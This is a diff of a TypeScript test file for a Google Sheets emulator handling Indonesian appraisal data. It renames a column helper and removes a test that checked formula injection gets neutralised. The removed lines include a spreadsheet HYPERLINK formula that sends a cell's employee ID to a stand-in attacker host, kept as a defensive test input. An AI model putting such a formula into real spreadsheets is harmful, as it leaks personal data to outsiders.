@@ -4,11 +4,10 @@
 // would fail here because the emulator makes it one, as Sheets does.
 import {setup} from '../emulator/setup';
 import {
-  generatedInputs,
   keptInput,
   keptInputs,
   parsesAsOther,
-  tabGeneratedColumns,
+  tabTextColumns,
   textInput,
 } from '../../src/sheets/values';
 import {HEADERS} from '../../src/sheets/schema';
@@ -127,27 +126,18 @@ describe('keptInput: a cell written back holds what it held', () => {
     expect(before.values[1][2]).toBe('=Tidak sesuai target utama');
   });
 
-  it('generatedInputs quotes copied texts in the generated columns, never the header or NIP', () => {
+  it('tabTextColumns: the copied texts (not Target nor the inputs) are the plain-text columns', () => {
     const header = [...HEADERS.penilaian];
-    const generated = tabGeneratedColumns(header);
-    expect([...generated].map(c => header[c])).toEqual([
+    expect([...tabTextColumns(header)].map(c => header[c])).toEqual([
       'Periode',
+      'NIP',
       'Nama',
       'Jenis',
       'Kode',
       'Uraian',
       'Satuan',
-      'Target',
     ]);
-    const row = header.map(() => '');
-    row[1] = '199001012015011001';
-    row[2] = '=HYPERLINK("http://evil.example/?"&B2,"x")';
-    row[12] = "'=ditulis sebagai masukan";
-    const [h, out] = generatedInputs([header, row], c => generated.has(c));
-    expect(h).toEqual(header);
-    expect(out[1]).toBe('199001012015011001');
-    expect(out[2]).toBe('\'=HYPERLINK("http://evil.example/?"&B2,"x")');
-    // Inputs are already in input form (keptInputs): left as they are.
-    expect(out[12]).toBe("'=ditulis sebagai masukan");
+    // Found by header text, in any order.
+    expect([...tabTextColumns(['Catatan', 'nama', 'Realisasi'])]).toEqual([1]);
   });
 });
